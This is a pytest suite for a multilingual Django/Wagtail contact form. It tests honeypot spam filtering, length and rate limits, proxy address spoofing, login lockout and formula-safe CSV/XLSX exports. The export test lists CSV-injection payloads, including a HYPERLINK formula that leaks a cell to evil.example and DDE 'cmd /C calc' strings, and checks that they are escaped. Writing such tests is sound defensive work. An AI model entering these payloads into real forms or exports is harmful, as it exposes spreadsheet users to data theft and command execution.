"""The contact form: stores real messages, re-shows mistakes, quietly drops bot spam."""

import csv
import datetime
import io
import json
import subprocess
import sys

import openpyxl
import pytest
from django.conf import settings
from django.core import mail
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from contact.models import ContactPage, FormField
from core.models import StandardPage
from tests.processes import child_environment

pytestmark = pytest.mark.django_db

URL = "/de/kontakt/"
ROOT = settings.BASE_DIR


def form_data(page: ContactPage, **overrides) -> dict:
    fields = {f.label: f.clean_name for f in page.form_fields.all()}
    consent = next(name for label, name in fields.items() if label.startswith("Ich bin"))
    data = {
        fields["Name"]: "Ana Beispiel",
        fields["E-Mail"]: "ana@example.org",
        fields["Nachricht"]: "Gibt es den Flyer auch auf Spanisch?",
        consent: "on",
        "website_url": "",
    }
    data.update(overrides)
    return data


@pytest.fixture
def page():
    return ContactPage.objects.get(locale__language_code="de", slug="kontakt")


def test_valid_message_is_stored(client, page):
    response = client.post(URL, form_data(page))
    assert response.status_code == 200
    assert "contact/contact_page_landing.html" in [t.name for t in response.templates]
    submission = FormSubmission.objects.get(page=page)
    assert submission.get_data()["nachricht"] == "Gibt es den Flyer auch auf Spanisch?"
    assert "website_url" not in submission.form_data


def test_invalid_message_is_reshown_with_errors_and_what_was_typed(client, page):
    response = client.post(URL, form_data(page, **{"e_mail": "keine-adresse"}))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="form-errors"' in html
    assert 'value="Ana Beispiel"' in html
    assert "Gibt es den Flyer auch auf Spanisch?" in html
    assert 'value="keine-adresse"' in html
    assert not FormSubmission.objects.filter(page=page).exists()


def test_missing_required_fields_are_named(client, page):
    html = client.post(URL, {"website_url": ""}).content.decode()
    assert html.count('class="form-field__error"') == 4


def test_honeypot_spam_is_dropped_but_answered_politely(client, page):
    response = client.post(URL, form_data(page, website_url="http://spam.example"))
    assert response.status_code == 200
    assert "contact/contact_page_landing.html" in [t.name for t in response.templates]
    assert not FormSubmission.objects.filter(page=page).exists()
    # A real message right after still arrives.
    client.post(URL, form_data(page))
    assert FormSubmission.objects.filter(page=page).count() == 1


def test_honeypot_is_hidden_from_people(client, page):
    html = client.get(URL).content.decode()
    assert '<div class="hp" aria-hidden="true">' in html
    assert 'name="website_url"' in html and 'tabindex="-1"' in html


# Limits (issue 17): every field's length, and messages per address -------------------

# Address blocks reserved for documentation (RFC 5737): no real reader is counted here.
READER = "203.0.113.7"
OTHER_READER = "198.51.100.9"


def typed_data(page: ContactPage, **overrides) -> dict:
    """A valid message for the contact page in any language (labels are translated)."""
    values = {
        "singleline": "Ana Beispiel",
        "email": "ana@example.org",
        "multiline": "Gibt es den Flyer auch auf Spanisch?",
        "checkbox": "on",
    }
    data = {f.clean_name: values.get(f.field_type, "") for f in page.form_fields.all()}
    data["website_url"] = ""
    data.update(overrides)
    return data


def add_field(page: ContactPage, label: str, field_type: str) -> str:
    field = FormField.objects.create(
        page=page, locale=page.locale, label=label, field_type=field_type, required=False
    )
    return field.clean_name


def field_name(page: ContactPage, field_type: str) -> str:
    return next(f.clean_name for f in page.form_fields.all() if f.field_type == field_type)


# (field type, a value over its limit, a valid value at the limit, the German message)
LONG_EMAIL_LOCAL = "a" * 64 + "@"
LONG_DOMAIN = ".".join(["b" * 60] * 3) + ".example.org"
LENGTH_CASES = [
    ("singleline", "N" * 201, "N" * 200, "höchstens 200 Zeichen"),
    ("multiline", "Nachricht " * 500 + "!", "x" * 5000, "höchstens 5000 Zeichen"),
    ("email", LONG_EMAIL_LOCAL + LONG_DOMAIN + "x" * 10, None, "höchstens 254 Zeichen"),
    ("url", "https://example.org/" + "p" * 1981, None, "höchstens 2000 Zeichen"),
    ("number", "1" * 31, "1" * 30, "höchstens 30 Ziffern"),
    ("hidden", "h" * 201, None, "höchstens 200 Zeichen"),
]


@pytest.mark.parametrize("field_type,too_long,at_limit,message", LENGTH_CASES)
def test_every_field_type_has_a_length_limit(client, page, field_type, too_long, at_limit, message):
    if field_type in ("url", "number", "hidden"):
        add_field(page, f"Feld {field_type}", field_type)
    name = field_name(page, field_type)
    response = client.post(URL, typed_data(page, **{name: too_long}), REMOTE_ADDR=READER)
    assert response.status_code == 200
    html = response.content.decode()
    # Re-shown with the message, next to what was typed, and nothing stored.
    assert 'class="form-errors"' in html
    assert message in html
    assert too_long in html
    assert not FormSubmission.objects.filter(page=page).exists()
    if at_limit:
        response = client.post(URL, typed_data(page, **{name: at_limit}), REMOTE_ADDR=READER)
        assert "contact/contact_page_landing.html" in [t.name for t in response.templates]
        assert str(FormSubmission.objects.get(page=page).get_data()[name]) == at_limit


def test_the_limits_are_shown_to_readers(client, page):
    html = client.get(URL).content.decode()
    assert f'name="{field_name(page, "singleline")}" maxlength="200"' in html
    assert 'maxlength="254"' in html
    textarea = html.split("<textarea", 1)[1].split(">", 1)[0]
    assert 'maxlength="5000"' in textarea
    assert "Höchstens 5000 Zeichen." in html


def test_a_choice_posted_many_times_is_stored_once(client, page):
    field = FormField.objects.create(
        page=page,
        locale=page.locale,
        label="Themen",
        field_type="checkboxes",
        choices="Beratung\nFlyer",
        required=False,
    )
    data = typed_data(page)
    data[field.clean_name] = ["Flyer"] * 500 + ["Beratung"]
    client.post(URL, data, REMOTE_ADDR=READER)
    assert FormSubmission.objects.get(page=page).get_data()[field.clean_name] == [
        "Flyer",
        "Beratung",
    ]


@pytest.fixture
def notified(page):
    """Notification e-mails on, for the page in every language."""
    ContactPage.objects.update(to_address="redaktion@example.org")


def fill_the_limit(client, page, settings, **extra) -> None:
    for number in range(settings.CONTACT_RATE_LIMIT):
        response = client.post(URL, typed_data(page), **extra)
        assert response.status_code == 200, number
        assert "contact/contact_page_landing.html" in [t.name for t in response.templates]


def test_too_many_messages_from_one_address_are_refused(client, page, settings, notified):
    fill_the_limit(client, page, settings, REMOTE_ADDR=READER)
    assert len(mail.outbox) == settings.CONTACT_RATE_LIMIT
    message = "Bitte noch einmal senden: " + "x" * 40
    response = client.post(URL, typed_data(page, nachricht=message), REMOTE_ADDR=READER)
    assert response.status_code == 429
    window = settings.CONTACT_RATE_WINDOW_MINUTES * 60
    assert 0 < int(response["Retry-After"]) <= window
    html = response.content.decode()
    assert "Zu viele Nachrichten in kurzer Zeit" in html
    # What the reader typed is still there, to send later.
    assert message in html
    assert FormSubmission.objects.filter(page=page).count() == settings.CONTACT_RATE_LIMIT
    assert len(mail.outbox) == settings.CONTACT_RATE_LIMIT
    # Another address is not held back.
    response = client.post(URL, typed_data(page), REMOTE_ADDR=OTHER_READER)
    assert "contact/contact_page_landing.html" in [t.name for t in response.templates]


def test_a_mistake_does_not_count_against_the_limit(client, page, settings):
    for _ in range(settings.CONTACT_RATE_LIMIT):
        client.post(URL, typed_data(page, e_mail="keine-adresse"), REMOTE_ADDR=READER)
    fill_the_limit(client, page, settings, REMOTE_ADDR=READER)


@pytest.mark.parametrize(
    "language,text",
    [
        ("tr", "Kısa sürede çok fazla mesaj"),
        ("ar", "رسائل كثيرة جدًا في وقت قصير"),
        ("en", "Too many messages in a short time"),
        ("es", "Demasiados mensajes en poco tiempo"),
        ("it", "Troppi messaggi in poco tempo"),
    ],
)
def test_the_refusal_is_in_the_readers_language(client, page, settings, language, text):
    fill_the_limit(client, page, settings, REMOTE_ADDR=READER)
    translated = ContactPage.objects.get(locale__language_code=language)
    response = client.post(translated.url, typed_data(translated), REMOTE_ADDR=READER)
    assert response.status_code == 429
    assert "Retry-After" in response
    html = response.content.decode()
    assert f'lang="{language}"' in html
    assert text in html
    assert not FormSubmission.objects.filter(page=translated).exists()


# The client-address settings the settings module derives from TRUSTED_PROXY_COUNT.
ADDRESS_SETTINGS = """
import json, migraup.settings.base as base
print(json.dumps({k: v for k, v in vars(base).items() if "IPWARE" in k}))
"""


@pytest.fixture
def behind_one_proxy(settings):
    """The site as TRUSTED_PROXY_COUNT=1 configures it: one proxy (nginx, say) that appends
    the address it was connected from to X-Forwarded-For."""
    found = subprocess.run(
        [sys.executable, "-c", ADDRESS_SETTINGS],
        env=child_environment(TRUSTED_PROXY_COUNT="1"),
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    for name, value in json.loads(found.stdout).items():
        setattr(settings, name, value)


def test_readers_behind_the_proxy_are_counted_apart(client, page, settings, behind_one_proxy):
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    fill_the_limit(client, page, settings, HTTP_X_FORWARDED_FOR=READER, **proxy)
    assert (
        client.post(URL, typed_data(page), HTTP_X_FORWARDED_FOR=READER, **proxy).status_code == 429
    )
    # An address the reader put in front of the proxy's own entry changes nothing.
    spoofed = f"192.0.2.1, {READER}"
    assert (
        client.post(URL, typed_data(page), HTTP_X_FORWARDED_FOR=spoofed, **proxy).status_code == 429
    )
    # Another reader behind the same proxy may send.
    response = client.post(URL, typed_data(page), HTTP_X_FORWARDED_FOR=OTHER_READER, **proxy)
    assert "contact/contact_page_landing.html" in [t.name for t in response.templates]


def test_without_a_trusted_proxy_the_header_is_ignored(client, page, settings):
    for number in range(settings.CONTACT_RATE_LIMIT):
        response = client.post(
            URL, typed_data(page), REMOTE_ADDR=READER, HTTP_X_FORWARDED_FOR=f"192.0.2.{number}"
        )
        assert response.status_code == 200
    response = client.post(
        URL, typed_data(page), REMOTE_ADDR=READER, HTTP_X_FORWARDED_FOR="192.0.2.200"
    )
    assert response.status_code == 429


def test_login_limit_counts_readers_behind_the_proxy_apart(
    client, django_user_model, settings, behind_one_proxy
):
    """The login limit counts the same address (a sibling: with one proxy, django-ipware
    found no address at all, so all readers shared one count)."""
    django_user_model.objects.create_user("mehmet", password="richtig-und-lang-2025")
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        client.post(
            "/admin/login/",
            {"username": f"rate-{attempt}", "password": "falsch"},
            HTTP_X_FORWARDED_FOR=READER,
            **proxy,
        )
    credentials = {"username": "mehmet", "password": "richtig-und-lang-2025"}
    locked = client.post("/admin/login/", credentials, HTTP_X_FORWARDED_FOR=READER, **proxy)
    assert locked.status_code == 429
    response = client.post("/admin/login/", credentials, HTTP_X_FORWARDED_FOR=OTHER_READER, **proxy)
    assert response.status_code == 302


def test_the_form_still_works_when_the_cache_fails(client, page, settings, caplog):
    settings.CACHES = {
        "default": {
            "BACKEND": "operations.cache_backends.TolerantRedisCache",
            "LOCATION": "redis://127.0.0.1:9/0",
        }
    }
    # Failing open: the message is stored, and the log says it was not counted.
    for _ in range(settings.CONTACT_RATE_LIMIT + 1):
        response = client.post(URL, typed_data(page), REMOTE_ADDR=READER)
        assert "contact/contact_page_landing.html" in [t.name for t in response.templates]
    assert FormSubmission.objects.filter(page=page).count() == settings.CONTACT_RATE_LIMIT + 1
    assert "Rate limit contact: the cache failed" in caplog.text


# Exports of the messages (issue 17): no cell a spreadsheet takes for a formula ---------

# What readers typed, and what the export must say instead (OWASP: a quote in front of any
# cell that begins with =, +, -, @, a tab or a carriage return).
DANGEROUS = {
    '=HYPERLINK("https://evil.example/?d="&A1;"Hilfe")': (
        '\'=HYPERLINK("https://evil.example/?d="&A1;"Hilfe")'
    ),
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 30 1234567": "'+49 30 1234567",
}
ORDINARY = ["Ana-Maria Beispiel", "ana@example.org", "Frage zu 1 + 1 = 2"]


def export(admin_client, page: ContactPage, export_format: str) -> list[list]:
    response = admin_client.get(
        reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": export_format}
    )
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(body.decode())))
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_hold_no_formulas(client, admin_client, page, export_format):
    FormField.objects.create(
        page=page, locale=page.locale, label="=1+1", field_type="singleline", required=False
    )
    names = {f.field_type: f.clean_name for f in page.form_fields.all()}
    for typed in [*DANGEROUS, *ORDINARY]:
        # Each value once as the name, once as the message.
        data = typed_data(page, **{names["singleline"]: typed, names["multiline"]: typed})
        response = client.post(URL, data, REMOTE_ADDR=f"192.0.2.{len(typed)}")
        assert "contact/contact_page_landing.html" in [t.name for t in response.templates]
    # A tab or a carriage return in front: the form strips them, older messages may not.
    for typed in ("\t=1+1", "\r=1+1"):
        FormSubmission.objects.create(
            page=page, form_data={names["singleline"]: typed, names["multiline"]: typed}
        )
    rows = export(admin_client, page, export_format)
    heading, *lines = rows
    assert "'=1+1" in heading and "=1+1" not in heading
    cells = {str(cell) for line in lines for cell in line if cell is not None}
    # XML, and so XLSX, stores a carriage return as a line feed.
    newline = "\r" if export_format == "csv" else "\n"
    for typed, written in [
        *DANGEROUS.items(),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", f"'{newline}=1+1"),
    ]:
        assert written in cells
        assert typed not in cells
    for typed in ORDINARY:
        assert typed in cells
    # The submission date stays a date (XLSX) or its plain text (CSV).
    dates = [line[0] for line in lines]
    assert all(isinstance(d, datetime.datetime) or d[:2] == "20" for d in dates)


@pytest.mark.parametrize(
    ("language", "message", "link"),
    [
        (
            "de",
            "Kreuzen Sie dieses Feld an, sonst können wir Ihre Nachricht nicht senden.",
            "Datenschutzerklärung lesen",
        ),
        (
            "ar",
            "ضع علامة في هذا المربع للموافقة، وإلا فلن نتمكن من إرسال رسالتك.",
            "اقرأ سياسة الخصوصية",
        ),
    ],
)
def test_the_consent_box_links_the_privacy_policy_and_says_what_to_do(
    client, language, message, link
):
    page = ContactPage.objects.get(locale__language_code=language)
    privacy = StandardPage.objects.get(locale__language_code=language, required_page="privacy")
    consent = next(f for f in page.form_fields.all() if f.field_type == "checkbox")
    html = client.get(page.url).content.decode()
    assert f'<a href="{privacy.url}">{link}</a>' in html
    assert f'aria-describedby="id_{consent.clean_name}_helptext"' in html

    fields = {f.field_type: f.clean_name for f in page.form_fields.all()}
    data = {fields["singleline"]: "Ana", fields["email"]: "ana@example.org"}
    data |= {fields["multiline"]: "Hallo", "website_url": ""}
    html = client.post(page.url, data).content.decode()
    summary = html[html.index('class="form-errors"') :]
    summary = summary[: summary.index("</ul>")]
    # The summary names the box by what to do, not by its whole label followed by ": …".
    assert f'<a href="#id_{consent.clean_name}">{message}</a>' in summary
    assert consent.label not in summary
    assert FormSubmission.objects.filter(page=page).count() == 0
